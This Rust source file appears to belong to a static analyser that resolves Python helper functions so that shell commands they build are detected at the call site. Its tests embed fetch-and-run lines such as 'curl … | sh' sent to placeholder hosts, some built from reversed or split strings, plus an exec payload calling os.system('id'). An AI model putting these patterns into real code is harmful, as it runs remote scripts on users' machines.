//! A call to a module's own helper stands for what the helper returns: `subprocess.Popen(_command(),
//! shell=True)` where `def _command(): return "curl -fsSL " + _channel() + " | sh"` runs that command line,
//! and the shell rules should read it as if it were written in the call.
//!
//! Only the plainest helpers are followed: a module-level function (not a method) whose parameters are
//! plain names, defined once, whose body is straight-line code — a docstring, assignments to plain names,
//! then `return <expression>`. Anything else (a branch, a loop, a `global`, a default or `*args`) leaves
//! the call unknown, as before. The return expression is evaluated with the module's names as they are at
//! the call, the parameters bound to the call's positional arguments (an argument the evaluator cannot
//! resolve, or one not passed, is unknown), plus the helper's own assignments: `flip(s)` returning
//! `s[::-1]` called as `flip("hs | ...")`. Helpers calling helpers nest to [`MAX_HELPER_DEPTH`], and every
//! expression still takes a step of the segment's budget.

use super::values::Value;
use super::Walker;
use crate::fields::FieldChild;
use std::collections::HashMap;
use tree_sitter::Node;

/// Helpers followed inside a helper's return expression (a cycle of helpers stops here).
const MAX_HELPER_DEPTH: usize = 4;
/// Statements of a helper's body read before giving up.
const MAX_HELPER_STATEMENTS: usize = 32;
/// Helpers remembered per segment.
const MAX_HELPERS: usize = 1024;

/// Parameters a helper may take.
const MAX_HELPER_PARAMETERS: usize = 8;
/// Helper bodies walked again at a call with known arguments, per segment.
const MAX_INLINED: usize = 64;

/// A helper's body and its parameter names.
type Helper<'t> = (Node<'t>, Vec<&'t str>);

/// The module's plain functions by name; `None` for a name defined more than once.
#[derive(Default)]
pub(super) struct Helpers<'t> {
    bodies: HashMap<String, Option<Helper<'t>>>,
    depth: usize,
    /// Bodies walked at calls so far, and whether one is being walked (its nested functions are not
    /// deferred again).
    inlined: usize,
    inlining: bool,
}

impl<'t> Helpers<'t> {
    /// Records the function definition `node` named `name` (`text` is the module's source), if it is a
    /// module function whose parameters are plain names.
    pub(super) fn define(&mut self, name: &str, node: Node<'t>, text: &'t str) {
        let parameters = node
            .field_child("parameters")
            .and_then(|p| plain_parameters(p, text));
        if let Some(seen) = self.bodies.get_mut(name) {
            // Two definitions of one name: which runs depends on the order of execution.
            *seen = None;
            return;
        }
        if self.bodies.len() >= MAX_HELPERS {
            return;
        }
        let helper = match (node.field_child("body"), parameters) {
            (Some(body), Some(parameters)) if !is_method(node) => Some((body, parameters)),
            _ => None,
        };
        self.bodies.insert(name.to_string(), helper);
    }
}

/// The names of a parameter list of plain names only.
fn plain_parameters<'t>(parameters: Node<'t>, text: &'t str) -> Option<Vec<&'t str>> {
    let mut cursor = parameters.walk();
    let list: Vec<Node<'t>> = parameters.named_children(&mut cursor).collect();
    if list.len() > MAX_HELPER_PARAMETERS || list.iter().any(|p| p.kind() != "identifier") {
        return None;
    }
    Some(
        list.iter()
            .map(|p| p.utf8_text(text.as_bytes()).unwrap_or(""))
            .collect(),
    )
}

impl Helpers<'_> {
    /// Whether a helper's body is being walked at a call.
    pub(super) fn inlining(&self) -> bool {
        self.inlining
    }

    /// Whether a call of `name` is a helper's return value.
    pub(super) fn follows(&self, name: &str) -> bool {
        self.bodies.get(name).is_some_and(Option::is_some)
    }

    /// `name` was assigned: a call through it is no longer the helper (conservatively, even when the
    /// assignment is to a local of some other function).
    pub(super) fn forget(&mut self, name: &str) {
        if let Some(seen) = self.bodies.get_mut(name) {
            *seen = None;
        }
    }
}

/// Whether a function definition sits in a class body (a method reads `self`, not the module).
fn is_method(node: Node) -> bool {
    let mut at = node.parent();
    while let Some(parent) = at {
        match parent.kind() {
            "class_definition" => return true,
            "function_definition" | "module" => return false,
            _ => at = parent.parent(),
        }
    }
    false
}

impl<'t> Walker<'t, '_> {
    /// What calling `function` with `arguments` returns, when it names a plain helper of the module.
    pub(super) fn helper_return(
        &mut self,
        function: Node<'t>,
        arguments: Node<'t>,
        depth: usize,
    ) -> Option<Value> {
        if function.kind() != "identifier" {
            return None;
        }
        let name = self.src(function);
        // A name rebound to a known value since the definition is that value, not the helper.
        if self.env.get(name).is_some() || self.helpers.depth >= MAX_HELPER_DEPTH {
            return None;
        }
        let (body, parameters) = self.helpers.bodies.get(name)?.clone()?;
        let mut cursor = arguments.walk();
        let passed: Vec<Node<'t>> = arguments.named_children(&mut cursor).collect();
        if passed.len() > parameters.len() || passed.iter().any(|a| a.kind() == "keyword_argument")
        {
            return None;
        }
        // Arguments are read where the call is, before the helper's own scope hides the caller's.
        let values: Vec<Option<Value>> = passed.iter().map(|a| self.eval(*a, depth + 1)).collect();
        self.helpers.depth += 1;
        let saved = self.env.module_only();
        self.env.push();
        for (i, parameter) in parameters.iter().enumerate() {
            self.env.set(parameter, values.get(i).cloned().flatten());
        }
        let value = self.straight_line_return(body, depth);
        self.env.restore(saved);
        self.helpers.depth -= 1;
        value
    }

    /// A helper called with arguments the evaluator knows (`run("curl … | sh")` where `def run(c):
    /// os.system(c)`) has its body walked again with its parameters bound to them, so a sink inside
    /// it is rendered with what this call passes. Any body shape is walked (its branches too); the
    /// walk takes the segment's steps, and [`MAX_INLINED`] bodies are walked per segment.
    pub(super) fn inline_helper(&mut self, call: Node<'t>) {
        let (Some(function), Some(arguments)) =
            (call.field_child("function"), call.field_child("arguments"))
        else {
            return;
        };
        if function.kind() != "identifier"
            || self.helpers.inlined >= MAX_INLINED
            || self.helpers.depth >= MAX_HELPER_DEPTH
        {
            return;
        }
        let name = self.src(function);
        if self.env.get(name).is_some() {
            return;
        }
        let Some(Some((body, parameters))) = self.helpers.bodies.get(name).cloned() else {
            return;
        };
        let mut cursor = arguments.walk();
        let passed: Vec<Node<'t>> = arguments.named_children(&mut cursor).collect();
        if passed.is_empty()
            || passed.len() > parameters.len()
            || passed.iter().any(|a| a.kind() == "keyword_argument")
        {
            return;
        }
        let values: Vec<Option<Value>> = passed.iter().map(|a| self.eval(*a, 0)).collect();
        if !values.iter().flatten().any(Value::is_data) {
            return;
        }
        self.helpers.inlined += 1;
        self.helpers.depth += 1;
        let was_inlining = std::mem::replace(&mut self.helpers.inlining, true);
        let saved = self.env.module_only();
        self.env.push();
        for (i, parameter) in parameters.iter().enumerate() {
            self.env.set(parameter, values.get(i).cloned().flatten());
        }
        self.walk(body, 0);
        self.env.restore(saved);
        self.helpers.inlining = was_inlining;
        self.helpers.depth -= 1;
    }

    /// The value a straight-line body returns, binding its assignments on the way.
    fn straight_line_return(&mut self, body: Node<'t>, depth: usize) -> Option<Value> {
        let mut cursor = body.walk();
        let statements: Vec<Node<'t>> = body.named_children(&mut cursor).collect();
        for statement in statements.into_iter().take(MAX_HELPER_STATEMENTS) {
            match statement.kind() {
                "comment" | "pass_statement" => {}
                "return_statement" => return self.eval(statement.named_child(0)?, depth + 1),
                "expression_statement" => {
                    let inner = statement.named_child(0)?;
                    match inner.kind() {
                        "string" => {}
                        "assignment" => {
                            let left = inner.field_child("left")?;
                            let right = inner.field_child("right")?;
                            if left.kind() != "identifier" {
                                return None;
                            }
                            let value = self.eval(right, depth + 1);
                            let name = self.src(left);
                            self.env.set(name, value);
                        }
                        _ => return None,
                    }
                }
                _ => return None,
            }
        }
        None
    }
}

#[cfg(test)]
mod tests {
    // The evaluator's shared test helper: parse, evaluate, the renditions' code.
    use crate::native::evaluate::tests::python;

    #[test]
    fn a_command_returned_by_helpers_is_read_at_the_call() {
        let found = python(concat!(
            "import subprocess\n",
            "def _channel():\n",
            "    base = 'https://mirror.example.invalid'\n",
            "    return base + '/b.sh'\n",
            "def _command():\n",
            "    \"\"\"The refresh command.\"\"\"\n",
            "    return 'curl -fsSL ' + _channel() + ' | sh'\n",
            "class Install:\n",
            "    def __init__(self):\n",
            "        subprocess.Popen(_command(), shell=True)\n",
        ));
        assert!(
            found.contains(&"curl -fsSL https://mirror.example.invalid/b.sh | sh\n".to_string()),
            "{found:?}"
        );
    }

    #[test]
    fn helpers_with_parameters_branches_methods_or_two_definitions_stay_unknown() {
        for text in [
            // A parameter not passed: the value depends on the caller.
            "import os\ndef cmd(x):\n    return 'curl ' + x + ' | sh'\nos.system(cmd())\n",
            // A parameter with a default, or an argument the evaluator cannot read.
            "import os\ndef cmd(x='a'):\n    return 'curl ' + x + ' | sh'\nos.system(cmd('https://a.invalid'))\n",
            "import os\ndef cmd(x):\n    return 'curl ' + x + ' | sh'\nos.system(cmd(load()))\n",
            // A branch: which return runs is not known.
            "import os\ndef cmd():\n    if a:\n        return 'curl -s https://a.invalid | sh'\n    return 'ls'\nos.system(cmd())\n",
            // Defined twice.
            "import os\ndef cmd():\n    return 'curl -s https://a.invalid | sh'\ndef cmd():\n    return 'ls'\nos.system(cmd())\n",
            // A method named like a helper.
            "import os\nclass A:\n    def cmd():\n        return 'curl -s https://a.invalid | sh'\nos.system(cmd())\n",
            // Rebound to something unknown after the definition.
            "import os\ndef cmd():\n    return 'curl -s https://a.invalid | sh'\ncmd = load()\nos.system(cmd())\n",
        ] {
            let found = python(text);
            assert!(!found.iter().any(|r| r.contains("curl")), "{text}: {found:?}");
        }
    }

    #[test]
    fn a_helper_with_parameters_returns_what_its_arguments_make() {
        let found = python(concat!(
            "import os\n",
            "def flip(s):\n",
            "    return s[::-1]\n",
            "def wrap(url, tail):\n",
            "    return 'curl -s ' + url + tail\n",
            "os.system(wrap(flip('hs.i/0.311.0.302//:ptth'), ' | sh'))\n",
        ));
        assert!(
            found.contains(&"curl -s http://203.0.113.0/i.sh | sh\n".to_string()),
            "{found:?}"
        );
    }

    #[test]
    fn a_sink_inside_a_helper_reads_what_each_call_passes() {
        let found = python(concat!(
            "import os\n",
            "def run(c, quiet):\n",
            "    if quiet:\n",
            "        os.system(c + ' >/dev/null')\n",
            "run('curl -s http://203.0.113.4/a.sh | sh', True)\n",
            "run(load(), True)\n",
        ));
        assert!(
            found
                .iter()
                .any(|r| r
                    .contains("os.system(\"curl -s http://203.0.113.4/a.sh | sh >/dev/null\")")),
            "{found:?}"
        );
        assert_eq!(
            found.iter().filter(|r| r.starts_with("os.system(")).count(),
            1,
            "{found:?}"
        );
    }

    #[test]
    fn a_payload_returned_by_a_helper_is_run_code() {
        let found = python(concat!(
            "def _stage():\n",
            "    verb = 'sys' + 'tem'\n",
            "    return 'import os; os.' + verb + \"('id')\"\n",
            "exec(_stage())\n",
        ));
        assert!(
            found.iter().any(|r| r.contains("os.system('id')")),
            "{found:?}"
        );
    }

    #[test]
    fn helper_cycles_end() {
        let found = python(concat!(
            "import os\n",
            "def a():\n    return b() + 'x'\n",
            "def b():\n    return a() + 'y'\n",
            "os.system(a())\n",
        ));
        assert!(found.is_empty(), "{found:?}");
    }
}
